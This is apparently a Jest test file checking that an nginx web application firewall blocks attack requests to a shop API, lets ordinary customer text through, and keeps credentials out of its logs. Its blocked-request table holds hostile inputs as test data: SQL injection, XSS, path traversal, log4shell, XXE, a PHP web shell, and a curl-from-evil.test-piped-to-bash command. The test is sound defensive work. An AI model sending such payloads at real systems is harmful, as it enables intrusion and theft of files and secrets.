import { gzipSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { Nginx, NO_WAF } from '../support/nginx';
import { type RawAnswer, raw } from '../support/raw';
import { Upstream } from '../support/upstream';

if (NO_WAF) console.warn(`the firewall is not tested: ${NO_WAF}`);
const describeWaf = NO_WAF ? describe.skip : describe;

const JSON_TYPE = { 'Content-Type': 'application/json' };
const note = (words: string) => ({
  method: 'POST',
  path: '/api/orders',
  headers: JSON_TYPE,
  body: JSON.stringify({ items: [{ productId: '6561c0ffee6561c0ffee6561', quantity: 1 }], note: words }),
});
const search = (words: string) => ({ path: `/api/products?q=${encodeURIComponent(words)}` });

const deniedAs = ({ headers }: RawAnswer): RegExp =>
  new RegExp(`Access denied with code 403.*${String(headers['x-request-id'])}`);

describeWaf('the web application firewall', () => {
  let api: Upstream;
  let nginx: Nginx;
  beforeAll(async () => {
    api = await Upstream.listening();
    nginx = await Nginx.before([api.url], { WAF: 'on' });
  });
  afterAll(async () => {
    await nginx?.[Symbol.asyncDispose]();
    await api?.[Symbol.asyncDispose]();
  });

  it.each([
    ['SQL injection in a search', search("1' OR '1'='1' -- ")],
    ['SQL injection by union', search("x' UNION SELECT email,password FROM users--")],
    ['SQL injection in a body', note("'; DROP TABLE orders; SELECT pg_sleep(10)--")],
    ['blind SQL injection', search("1' AND SLEEP(5)#")],
    ['a script in a search', search('<script>alert(document.cookie)</script>')],
    ['a script in a body', note('<img src=x onerror=alert(1)>')],
    ['a script in a PUT', { ...note('<svg/onload=alert(1)>'), method: 'PUT' }],
    ['a script address', search('javascript:alert(1)')],
    ['a path to the passwords', search('../../../../etc/passwd')],
    ['a file of the server', search('/proc/self/environ')],
    ['a file from elsewhere', search('http://203.0.113.7/shell.txt?')],
    ['a command of the shell', search('; cat /etc/passwd')],
    ['a command in a body', note('$(curl http://evil.test/x.sh | bash)')],
    ['code of Node', note("require('child_process').exec('id')")],
    ['code of PHP', note('<?php system($_GET[0]); ?>')],
    ['log4shell in a search', search('${jndi:ldap://evil.test/a}')],
    ['log4shell in a body', note('${jndi:ldap://evil.test/a}')],
    ['a scanner by its name', { path: '/api/products', headers: { 'User-Agent': 'sqlmap/1.7#stable' } }],
    ['another scanner', { path: '/api/products', headers: { 'User-Agent': 'Nikto/2.5.0' } }],
    ['a split header', search('x\r\nSet-Cookie: a=b')],
    [
      'XML',
      {
        method: 'POST',
        path: '/api/orders',
        headers: { 'Content-Type': 'text/xml' },
        body: '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
      },
    ],
    [
      'a form',
      {
        method: 'POST',
        path: '/api/orders',
        headers: { 'Content-Type': 'application/x-www-form-urlencoded' },
        body: 'a=b',
      },
    ],
    [
      'a body that it cannot look into',
      {
        ...note(''),
        headers: { ...JSON_TYPE, 'Content-Encoding': 'gzip' },
        body: gzipSync('{"note":"<script>alert(1)</script>"}'),
      },
    ],
    ['a method that nothing here has', { method: 'PROPFIND', path: '/api/products' }],
  ])('blocks %s, and says so as the API would', async (_what, request) => {
    const before = api.heard.length;
    const answer = await raw(nginx.port, request);
    expect([answer.status, answer.headers['content-type']]).toEqual([403, 'application/problem+json']);
    expect(JSON.parse(answer.text)).toMatchObject({ code: 'FORBIDDEN', status: 403 });
    expect(api.heard.length).toBe(before);
  });

  it.each([
    "Don't ring, it's the baby's nap; leave by the door",
    'O’Brien & Sons, flat 4/B – the "blue" door (2nd floor), #12',
    'घंटी न बजाएँ, दरवाज़े पर छोड़ दें',
    '¿Puede llamar al timbre? Sí, por favor: 2º izq.',
    'Please select the bag from the union of both orders, and drop it at the table',
    'Call me if late: +91 98765 43210 or ring twice; code is 4711*',
    'Cost < 500? OR take the smaller one -- thanks!!',
    'Gate code: #1234; then go left && up the stairs | 3rd door',
    'Buy 1, get 1 free, 50% off -- right? :-)',
    'அழைப்பு மணியை அடிக்க வேண்டாம் 🙏🏽🍌',
    'Line one\nline two\n\n- milk\n- eggs',
  ])('lets what people write through: %s', async (words) => {
    const sent = note(words);
    expect((await raw(nginx.port, sent)).status).toBe(200);
    expect(api.last.body).toBe(sent.body);
  });

  it.each([
    "baby's food",
    '70% cocoa',
    'salt & vinegar',
    "M&M's",
    'crisps (large) + dip',
    'दूध',
    'jamón',
    '7-up; cola',
    'select',
  ])('lets people look for %s', async (words) => {
    expect((await raw(nginx.port, search(words))).status).toBe(200);
  });

  it('lets every method of the API through, with its body, once', async () => {
    for (const method of ['POST', 'PUT', 'PATCH', 'DELETE']) {
      const before = api.heard.length;
      expect([method, (await raw(nginx.port, { ...note('x'), method })).status]).toEqual([method, 200]);
      expect(api.heard.slice(before)).toMatchObject([{ method, body: note('x').body }]);
    }
  });

  it('takes a password for what it is, whatever is in it, and writes none into a log', async () => {
    const password = "' OR 7=7 UNION SELECT <script>alert(7)</script>--";
    for (const [path, body] of [
      ['/api/auth/login', { email: 'a@shop.test', password }],
      ['/api/auth/register', { email: 'a@shop.test', name: "Niamh O'Brien", password }],
      ['/api/auth/register', { email: 'a@shop.test', password, role: 'partner', profile: { firstName: 'Niamh' } }],
      ['/api/auth/password', { currentPassword: password, newPassword: password }],
      ['/api/auth/password/reset', { token: 'or-1_1--union_select-AAAAAAAAAAAAAAAAAAAAAAA', password }],
      ['/api/auth/invitations/accept', { token: '--x', password, profile: { firstName: 'Zoë', lastName: 'O’Neil' } }],
      ['/api/auth/erasure', { password }],
      [`/api/admin/users/${'6561c0ffee'.repeat(3).slice(0, 24)}/erasure`, { password }],
    ] as const) {
      const answer = await raw(nginx.port, { method: 'POST', path, headers: JSON_TYPE, body: JSON.stringify(body) });
      expect([path, answer.status]).toEqual([path, 200]);
    }
    // what comes after is there: so is all that was said of these
    const probe = await raw(nginx.port, search('<script>after</script>'));
    expect(await nginx.saying(deniedAs(probe))).not.toContain('7=7');
  });

  it('names in its log what it blocked and by which rule, under the id of the request, and nothing that lets anybody in', async () => {
    const secrets = { Authorization: 'Bearer secret-token', Cookie: 'refresh=secret-cookie' };
    const answer = await raw(nginx.port, { ...search("1' OR '1'='1' -- "), headers: secrets });
    const said = await nginx.saying(deniedAs(answer));
    const lines = said.split('\n').filter((line) => line.includes(String(answer.headers['x-request-id'])));
    expect(lines.join('\n')).toMatch(/\[id "942100"\]/);
    expect(lines.join('\n')).toMatch(/\[error\].*Access denied with code 403/);
    expect(/secret-token|secret-cookie/.test(said)).toBe(false);
  });

  it('keeps out of sockets: what they carry is not a form', async () => {
    const path = '/socket.io/?EIO=4&transport=polling';
    const body = `42["note",${JSON.stringify("' OR '1'='1' -- <script>")}]`;
    const answer = await raw(nginx.port, { method: 'POST', path, headers: { 'Content-Type': 'text/plain' }, body });
    expect(answer.status).toBe(200);
    expect(api.last.body).toBe(body);
  });
});
